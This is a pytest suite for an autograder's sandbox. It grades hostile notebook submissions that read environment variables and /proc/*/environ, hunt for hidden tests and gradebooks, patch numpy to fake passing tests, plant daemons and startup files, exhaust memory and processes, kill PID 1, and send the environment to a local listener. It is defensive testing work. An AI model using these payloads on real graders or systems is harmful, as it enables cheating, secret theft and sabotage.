"""descent.grade against hostile submissions: one notebook per attack, graded in one sandboxed batch.

Each attacker answers ``mean`` correctly and ``square`` wrongly (or not at all), and tries, in
its ``square`` cell, to read what it must not, to score without solving, to tamper with the
grader, other students or the machine, to exhaust resources, or to carry data out. Honest
students graded before and after the attackers must keep full marks. The assignment's
``square`` test relies on numpy (``np.allclose``, ``np.isclose``), as the course's do.

The attacks only ever write inside this test's temporary folders, except two that try to
create new files in the library folder and in site-packages; the tests remove those if an
attack ever succeeds.
"""
import hashlib
import html
import json
import os
import re
import socket
import sys
import textwrap
import threading
import time

import nbformat
import pytest

import fabricate as fab
from descent.grade import Limits, grade, sandbox
from descent.grade.__main__ import main

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the sandbox is for Linux")

CANARY = "canary-3f9a1c-the-graders-secret"
MARKER = "descent-attack-marker-7d1e"
HIDDEN = ("square(-2.0)", "mean([5])", "HIDDEN TESTS")
REFERENCE = ("return x * x", "math.fsum")
WRONG = "def square(x):\n    return 2 * x\n"
LIMITS = Limits(timeout=10, memory=3 * 2**29, processes=48, disk=64 * 2**20, output=2 * 2**20)


def attack_notebook():
    """The squares assignment, with numpy in its tests."""
    nb = fab.squares_notebook()
    nb.cells[1].source = "import math\nimport numpy as np"
    nb.cells[3].source = textwrap.dedent('''
        assert np.allclose(square(np.array([3.0, 1.0])), [9.0, 1.0])
        ### BEGIN HIDDEN TESTS
        assert np.isclose(square(-2.0), 4.0)
        assert np.all(square(np.arange(3)) == [0, 1, 4])
        ### END HIDDEN TESTS
        ''').strip()
    return nb


def attacks(paths):
    """student -> (what the attack tries, its ``square`` cell). ``paths`` are what a strong
    attacker could learn of the grader's machine: the course, the downloads, the output."""
    library = os.path.dirname(os.path.dirname(sandbox.__file__))
    site = [p for p in sys.path if p.endswith("site-packages")][0]
    return {
        # reading what is hidden
        "walks-up": ("walks up from its working folder and prints every notebook it finds", f'''
            import os
            here, seen = os.getcwd(), 0
            for _ in range(8):
                for top, dirs, files in os.walk(here):
                    dirs[:] = [d for d in dirs if d not in ("usr", "proc", "sys", "dev", "lib", "site-packages")]
                    for f in files:
                        if f.endswith((".ipynb", ".db")) and seen < 50:
                            seen += 1
                            try: print(top, f, open(os.path.join(top, f), errors="replace").read())
                            except OSError as e: print(e)
                here = os.path.dirname(here)
            for root in ("/tmp", "/root", "/home", "/work", {paths["course"]!r}):
                print(root, os.path.exists(root) and os.listdir(root))
            '''),
        "follows-library": ("follows descent.__file__ to solutions/", f'''
            import descent, glob, os
            up = os.path.dirname(os.path.dirname(os.path.dirname(descent.__file__)))
            for path in glob.glob(up + "/solutions/*/*.ipynb") + glob.glob({paths["course"]!r} + "/solutions/*/*.ipynb"):
                print(open(path).read())
            '''),
        "reads-gradebook": ("opens every gradebook.db it can find with sqlite3", '''
            import glob, sqlite3
            for db in glob.glob("/tmp/**/gradebook.db", recursive=True) + glob.glob("/**/gradebook.db"):
                c = sqlite3.connect(db)
                for (table,) in c.execute("select name from sqlite_master where type='table'"):
                    print(table, c.execute(f"select * from {table}").fetchall())
            '''),
        "reads-caller": ("prints the source of the test cell that calls it (linecache)", '''
            import linecache, sys
            def square(x):
                frame = sys._getframe(1)
                print("".join(linecache.getlines(frame.f_code.co_filename)))
                return 2 * x
            '''),
        "reads-environ": ("prints its environment and every /proc/*/environ", '''
            import os, glob
            print(dict(os.environ))
            for path in glob.glob("/proc/*/environ"):
                try: print(path, open(path, "rb").read())
                except OSError as e: print(path, e)
            '''),
        # full marks without solving
        "patches-numpy": ("replaces np.allclose, np.isclose and np.all by functions that say True", WRONG + '''
            np.allclose = np.isclose = lambda *a, **k: True
            np.all = lambda *a, **k: True
            '''),
        "ast-transformer": ("wraps every later cell in try/except BaseException (AST transformer)", WRONG + '''
            import ast
            class Swallow(ast.NodeTransformer):
                def visit_Module(self, node):
                    handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
                    node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
                    return ast.fix_missing_locations(node)
            get_ipython().ast_transformers.append(Swallow())
            '''),
        "input-transformer": ("replaces every later cell by `pass` (input transformer)", WRONG + '''
            get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
            '''),
        "runs-reference": ("finds the reference solution in the grader's course and runs it", '''
            import glob, json
            for path in glob.glob("/tmp/**/source/**/*.ipynb", recursive=True):
                for cell in json.load(open(path))["cells"]:
                    if "BEGIN SOLUTION" in "".join(cell["source"]):
                        exec("".join(cell["source"]))
            if "square" not in globals():
                def square(x):
                    return 2 * x
            '''),
        "displays-then-fails": ("displays a value, then lets the test fail (nbgrader scores the first output)", '''
            import sys
            def square(x):
                sys.displayhook("ok")
                return 2 * x
            '''),
        # tampering
        "daemon": ("leaves a setsid daemon that rewrites grades.csv after the run", WRONG + f'''
            import subprocess, sys
            subprocess.Popen([sys.executable, "-c", "import time, os\\n# {MARKER}\\nt = time.time()\\n"
                              "while time.time() < t + 40:\\n    time.sleep(0.5)\\n"
                              "    p = os.path.join({paths["out"]!r}, 'grades.csv')\\n"
                              "    if os.path.exists(p): open(p, 'w').write('daemon,5,5,10,5')"],
                             start_new_session=True)
            '''),
        "writes-checkout": ("writes into the course's solutions/ and the library folder", WRONG + f'''
            for path in [{paths["course"]!r} + "/solutions/squares/pwned.txt", {library!r} + "/descent/{MARKER}.txt"]:
                try: open(path, "w").write("pwned")
                except OSError as e: print(e)
            '''),
        "writes-home": ("writes ~/.bashrc, ~/.jupyter and an IPython startup file", WRONG + f'''
            import os
            startup = os.path.expanduser("~/.ipython/profile_default/startup")
            os.makedirs(startup, exist_ok=True)
            open(os.path.join(startup, "00-pwn.py"), "w").write("print('{MARKER}')")
            os.makedirs(os.path.expanduser("~/.jupyter"), exist_ok=True)
            open(os.path.expanduser("~/.bashrc"), "a").write("echo {MARKER}")
            for path in [{paths["home"]!r} + "/.bashrc"]:
                try: open(path, "w").write("pwned")
                except OSError as e: print(e)
            '''),
        "writes-site-packages": ("adds a .pth file to site-packages", WRONG + f'''
            try: open({site!r} + "/{MARKER}.pth", "w").write("# pwned")
            except OSError as e: print(e)
            '''),
        "overwrites-submission": ("overwrites another student's submitted notebook", WRONG + f'''
            import glob
            for path in glob.glob({paths["downloads"]!r} + "/*.ipynb") + glob.glob("/tmp/**/submitted/**/*.ipynb", recursive=True):
                try: open(path, "w").write("{{}}")
                except OSError as e: print(e)
            '''),
        "rewrites-gradebook": ("turns every test in the gradebooks it finds into `print`", WRONG + '''
            import glob, sqlite3
            for db in glob.glob("/tmp/**/gradebook.db", recursive=True):
                try:
                    c = sqlite3.connect(db)
                    c.execute("update source_cell set source = 'print(1)'")
                    c.commit()
                except Exception as e: print(e)
            '''),
        "injects-kernels": ("looks for other kernels' connection files (and keys) through /proc", WRONG + '''
            import os
            mine = open("/proc/self/cmdline", "rb").read().split(b"\\0")
            mine = mine[mine.index(b"-f") + 1]
            for pid in os.listdir("/proc"):
                if not pid.isdigit():
                    continue
                try: args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
                except OSError: continue
                if b"-f" in args and args[args.index(b"-f") + 1] != mine:
                    path = args[args.index(b"-f") + 1].decode()
                    try: print("FOU" + "ND:", path, open(path).read())
                    except OSError as e: print("not readable", e)
            print("processes seen:", [p for p in os.listdir("/proc") if p.isdigit()])
            '''),
        "breaks-outdir": ("makes grades.csv a folder so the grader cannot write it", WRONG + f'''
            import os
            try: os.makedirs({paths["out"]!r} + "/grades.csv/x")
            except OSError as e: print(e)
            '''),
        # resources
        "forks-memory": ("four forked children hold 400 MB each (limit 1.5 GB for all)", WRONG + '''
            import os, time
            for _ in range(4):
                if os.fork() == 0:
                    hold = []
                    try:
                        for _ in range(8):
                            hold.append(b"x" * 50 * 2**20)
                    except MemoryError:
                        pass
                    time.sleep(30)
                    os._exit(0)
            time.sleep(8)
            '''),
        "fills-shm": ("writes 300 MB to /dev/shm", WRONG + '''
            try:
                with open("/dev/shm/hog", "wb") as f:
                    for _ in range(300):
                        f.write(b"x" * 2**20)
            except OSError as e: print(e)
            '''),
        "forks-many": ("starts 200 processes (limit 48)", WRONG + f'''
            import subprocess, sys
            children = []
            try:
                for _ in range(200):
                    children.append(subprocess.Popen([sys.executable, "-c", "import time\\n# {MARKER}\\ntime.sleep(40)"]))
            except OSError as e: print(len(children), e)
            '''),
        "fills-tmp": ("writes 600 MB into TMPDIR", WRONG + '''
            import tempfile
            try:
                with tempfile.NamedTemporaryFile(delete=False) as f:
                    for _ in range(600):
                        f.write(b"x" * 2**20)
            except OSError as e: print(e)
            '''),
        "busy-daemon": ("leaves a busy loop in a new session", WRONG + f'''
            import subprocess, sys
            subprocess.Popen([sys.executable, "-c", "import time\\n# {MARKER}\\nt = time.time()\\nwhile time.time() < t + 40: pass"],
                             start_new_session=True)
            '''),
        "floods-output": ("prints 40 MB (limit 2 MB for the notebook)", WRONG + '''
            for _ in range(40):
                print("x" * 2**20)
            '''),
        "fills-kernel-folder": ("writes 200 MB beside its connection file (limit 64 MB)", WRONG + '''
            import os
            args = open("/proc/self/cmdline", "rb").read().decode().split("\\0")
            folder = os.path.dirname(args[args.index("-f") + 1])
            try:
                for k in range(200):
                    open(os.path.join(folder, f"junk{k}"), "wb").write(b"x" * 2**20)
            except OSError as e: print(e)
            import time; time.sleep(3)
            '''),
        "kills-its-parent": ("kills its parent process and PID 1", WRONG + '''
            import os, signal
            for pid in (os.getppid(), 1):
                try: os.kill(pid, signal.SIGKILL)
                except OSError as e: print(e)
            '''),
        # exfiltration
        "phones-home": ("sends its environment to a port on localhost", WRONG + f'''
            import os, socket
            try:
                s = socket.create_connection(("127.0.0.1", {paths["port"]}), timeout=2)
                s.sendall(repr(dict(os.environ)).encode())
            except OSError as e: print(e)
            '''),
    }


HONEST = ("aa-honest", "zz-honest", "zz-warns")


def cell(code):
    """An attack's ``square`` cell: the wrong answer (if any) and the attack, dedented."""
    if code.startswith(WRONG):
        return WRONG + textwrap.dedent(code[len(WRONG):])
    return textwrap.dedent(code)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """Grade every attack and three honest students in one sandboxed run."""
    root = tmp_path_factory.mktemp("attacks")
    home = root / "home"
    home.mkdir()
    source = fab.course(str(root), notebook=attack_notebook())
    released = fab.release(str(root))
    downloads, out = root / "downloads", root / "out"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.5)
    received = []
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
                received.append(conn.recv(1 << 16))
                conn.close()
            except OSError:
                continue
    threading.Thread(target=listen, daemon=True).start()

    paths = {"course": str(root), "downloads": str(downloads), "out": str(out), "home": str(home),
             "port": listener.getsockname()[1]}
    cases = attacks(paths)
    for student, (_, code) in cases.items():
        fab.write(fab.answer(released, {**fab.RIGHT, "square": cell(code)}), str(downloads / f"{student}.ipynb"))
    for student in HONEST:
        answer = dict(fab.RIGHT)
        if student == "zz-warns":
            answer["square"] = "import warnings\ndef square(x):\n    warnings.warn('big')\n    return x ** 2"
        fab.write(fab.answer(released, answer), str(downloads / f"{student}.ipynb"))
    before = fingerprint(downloads)
    environ = dict(os.environ)
    os.environ.update(HOME=str(home), DESCENT_CANARY=CANARY)
    started = time.monotonic()
    try:
        result = grade(source, str(downloads), str(out), LIMITS, jobs=2)
    finally:
        os.environ.clear()
        os.environ.update(environ)
    seconds = time.monotonic() - started
    time.sleep(3)  # a daemon that survived would strike now
    stop.set()
    with open(out / "grades.csv") as f:
        grades = f.read()
    yield {"root": root, "out": out, "cases": cases, "result": result, "grades": grades, "received": received,
           "before": before, "downloads": downloads, "home": home, "seconds": seconds,
           "rows": {r.student: r for r in result.rows}}
    library = os.path.dirname(os.path.dirname(sandbox.__file__))
    site = [p for p in sys.path if p.endswith("site-packages")][0]
    for stray in (os.path.join(library, "descent", MARKER + ".txt"), os.path.join(site, MARKER + ".pth")):
        if os.path.exists(stray):
            os.unlink(stray)


def fingerprint(folder):
    found = {}
    for here, _, files in os.walk(folder):
        for name in files:
            with open(os.path.join(here, name), "rb") as f:
                found[os.path.join(here, name)] = hashlib.sha256(f.read()).hexdigest()
    return found


def page(attacked, student):
    with open(attacked["out"] / "feedback" / f"{student}.html", encoding="utf-8") as f:
        return html.unescape(re.sub(r"<[^>]+>", "", f.read()))


def test_honest_students_before_and_after_the_attackers_keep_full_marks(attacked):
    for student in HONEST:
        row = attacked["rows"][student]
        assert (row.total, row.status) == (5, "graded"), (student, row.notes)
        assert MARKER not in page(attacked, student)


@pytest.mark.parametrize("student", sorted(attacks(dict.fromkeys(["course", "downloads", "out", "home", "port"], ""))))
def test_no_attack_scores_the_test_it_did_not_solve_or_sees_what_is_hidden(attacked, student):
    row = attacked["rows"][student]
    assert row.scores[0] == 0, (student, row.notes)
    text = page(attacked, student)
    for secret in HIDDEN + REFERENCE + (CANARY,):
        assert secret not in text, (student, secret)
    assert "FOUND:" not in text
    assert "SyntaxError" not in text and "IndentationError" not in text  # the attack did run


def test_grades_are_the_graders_own_after_every_kernel_is_gone(attacked):
    lines = attacked["grades"].splitlines()
    assert lines[0].split(",")[:6] == ["student_id", "test_square", "test_mean", "total", "max", "to_grade_by_hand"]
    assert len(lines) == 1 + len(attacked["cases"]) + len(HONEST)
    assert "daemon,5,5,10,5" not in attacked["grades"]
    with open(attacked["out"] / "grades.csv") as f:
        assert f.read() == attacked["grades"]
    assert not [p for p in os.listdir("/proc") if p.isdigit() and MARKER.encode() in cmdline(p)]


def cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read()
    except OSError:
        return b""


def test_nothing_outside_the_sandbox_was_written(attacked):
    library = os.path.dirname(os.path.dirname(sandbox.__file__))
    site = [p for p in sys.path if p.endswith("site-packages")][0]
    assert not os.path.exists(os.path.join(library, "descent", MARKER + ".txt"))
    assert not os.path.exists(os.path.join(site, MARKER + ".pth"))
    assert not os.path.exists(attacked["root"] / "solutions" / "squares" / "pwned.txt")
    for here, _, files in os.walk(attacked["home"]):  # the grader's own home (IPython makes ~/.ipython)
        assert not [f for f in files if f in (".bashrc", "00-pwn.py")], (here, files)
    assert fingerprint(attacked["downloads"]) == attacked["before"]


def test_nothing_reached_the_network(attacked):
    assert attacked["received"] == []


def test_resource_attacks_are_stopped_at_their_limits_with_a_note(attacked):
    rows = attacked["rows"]
    assert "limit of memory" in " ".join(rows["forks-memory"].notes)
    assert "limit of disk" in " ".join(rows["fills-kernel-folder"].notes)
    assert "No space left on device" in page(attacked, "fills-shm")
    assert "No space left on device" in page(attacked, "fills-tmp")
    assert "Resource temporarily unavailable" in page(attacked, "forks-many") or \
        "limit of processes" in " ".join(rows["forks-many"].notes)
    assert "printed more output than the limit" in " ".join(rows["floods-output"].notes)
    assert len(page(attacked, "floods-output")) < 3 * LIMITS.output


def test_the_attack_suite_stays_within_its_time_budget(attacked):
    assert attacked["seconds"] < 240, attacked["seconds"]


def test_without_bubblewrap_the_command_refuses_unless_told_no_sandbox(tmp_path, monkeypatch, capsys):
    source = fab.course(str(tmp_path))
    released = fab.release(str(tmp_path))
    fab.write(fab.answer(released, fab.RIGHT), str(tmp_path / "downloads" / "ann.ipynb"))
    monkeypatch.setattr(sandbox.shutil, "which", lambda name, *a, **k: None)
    assert main([source, str(tmp_path / "downloads"), "--out", str(tmp_path / "out"), "--quiet"]) == 2
    assert "bubblewrap (bwrap) is not installed" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()
    assert main([source, str(tmp_path / "downloads"), "--out", str(tmp_path / "out"), "--quiet",
                 "--no-sandbox", "--jobs", "1", "--timeout", "10"]) == 0
    printed = capsys.readouterr().out
    assert printed.startswith("NOT ISOLATED")
    assert "1 submissions: 1 graded" in printed
